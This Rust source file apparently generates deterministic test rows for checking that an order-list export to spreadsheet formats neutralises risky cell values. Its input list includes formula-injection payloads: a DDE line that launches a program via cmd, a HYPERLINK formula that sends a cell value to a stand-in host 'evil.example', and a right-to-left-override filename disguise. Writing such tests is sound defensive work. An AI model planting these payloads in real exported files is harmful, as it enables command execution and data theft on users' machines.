//! Rows that would break a careless export: texts that look like formulas, numbers, markup or line ends, and numbers that
//! a binary number cannot hold. The same seed always makes the same rows.

use portal_model::date::Date;
use portal_model::decimal::Decimal;
use portal_model::export::{Format, Heading, Job, Subject, Words};
use portal_model::list::{Cell, Column, ListKind};
use portal_model::money::Money;
use portal_model::status::OrderStatus;

/// The columns of a row, in their sequence.
pub const COLUMNS: [Column; 10] = [
    Column::Number,
    Column::Status,
    Column::Placed,
    Column::Requested,
    Column::Slip,
    Column::Requisition,
    Column::Reference,
    Column::Total,
    Column::ShipTo,
    Column::Ordered,
];

const BEGINNINGS: [&str; 22] = [
    "",
    "",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    " ",
    "\u{a0}=",
    "\u{3000}＝",
    "＋",
    "－",
    "＠",
    "'",
    "\"",
    "\u{feff}=",
    "\u{200b}-",
    "  @",
    ";",
    ",",
];

const BODIES: [&str; 40] = [
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://evil.example?x=\"&A1,\"ok\")",
    "5",
    "-5",
    "00123",
    "1E5",
    "1,5",
    "1.5",
    "0x1F",
    "TRUE",
    "2024-01-01",
    "3-4",
    "12:30",
    "MAR1",
    "#N/A",
    "#REF!",
    "100 %",
    "€ 12",
    "O'Hara & söhne",
    "say \"=1\"; or, no",
    "\"\"",
    "a\r\nb",
    "a\nb",
    "a\tb",
    "</t></si>",
    "]]>",
    "&lt;b&gt;",
    "<b>",
    "_x0041_",
    "_x000D_",
    "😀👩‍👩‍👧",
    "مرحبا",
    "\u{202e}gpj.exe",
    "é",
    "漢字",
    "C:\\temp\\",
    "{1;2}",
    "x y",
];

/// A row of cells.
pub type Row = Vec<Cell>;

/// So many rows.
pub fn rows(count: usize) -> Vec<Row> {
    let mut dice = Dice(0x9E37_79B9_7F4A_7C15);
    (0..count).map(|_| row(&mut dice)).collect()
}

/// The value of a row in a column.
pub fn cell(row: &Row, column: Column) -> Cell {
    let place = COLUMNS.iter().position(|known| *known == column);
    place.map_or(Cell::Empty, |place| row[place].clone())
}

/// The export of such rows.
pub fn job(format: Format, decimal_comma: bool) -> Job {
    let heading = |column: Column| Heading { column, title: format!("={}", column.slug()) };
    Job {
        subject: Subject {
            kind: ListKind::Orders,
            first: String::new(),
            total: None,
            columns: COLUMNS.map(heading).to_vec(),
            title: "Orders: [all]/*".to_owned(),
            filter: "=1+1".to_owned(),
        },
        endpoint: String::new(),
        format,
        decimal_comma,
        words: Words {
            pending: "pending".to_owned(),
            currency: "Currency".to_owned(),
            about: "About".to_owned(),
            ..Words::default()
        },
        about: vec![("Filter".to_owned(), "=1+1".to_owned()), ("User".to_owned(), "@me".to_owned())],
    }
}

fn row(dice: &mut Dice) -> Row {
    let days = i32::try_from(dice.below(200_000)).unwrap_or_default() - 60_000;
    let date = Cell::Date(Date::from_day_number(days));
    let amount = match dice.below(8) {
        0 => Cell::Pending,
        _ => Cell::Money(Money { amount: decimal(dice, 4).into(), currency: "EUR".to_owned() }),
    };
    let placed = format!(
        "20{:02}-0{}-1{}T2{}:59:30Z",
        dice.below(99),
        dice.below(9) + 1,
        dice.below(9),
        dice.below(4)
    );
    vec![
        text(dice),
        Cell::Status(OrderStatus::ALL[dice.below(OrderStatus::ALL.len())]),
        Cell::Instant(placed),
        date,
        Cell::Days(i32::try_from(dice.below(100)).unwrap_or_default() - 50),
        text(dice),
        text(dice),
        amount,
        text(dice),
        Cell::Number(decimal(dice, 5).into()),
    ]
}

fn text(dice: &mut Dice) -> Cell {
    let mut text = dice.of(&BEGINNINGS).to_owned();
    for _ in 0..=dice.below(3) {
        text.push_str(dice.of(&BODIES));
        if dice.below(4) == 0 {
            text.push_str(dice.of(&BEGINNINGS));
        }
    }
    Cell::Text(text)
}

/// Of any size, from none to eighteen digits, negative ones among them.
fn decimal(dice: &mut Dice, scale: u32) -> Decimal {
    let digits = u32::try_from(dice.below(18)).unwrap_or_default();
    let units = i64::try_from(dice.next() % 10u64.pow(digits)).unwrap_or_default();
    Decimal::new(if dice.below(3) == 0 { -units } else { units }, scale)
}

/// Numbers in a fixed sequence that looks like none (xorshift).
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, count: usize) -> usize {
        usize::try_from(self.next() % count as u64).unwrap_or_default()
    }

    fn of(&mut self, texts: &[&'static str]) -> &'static str {
        texts[self.below(texts.len())]
    }
}
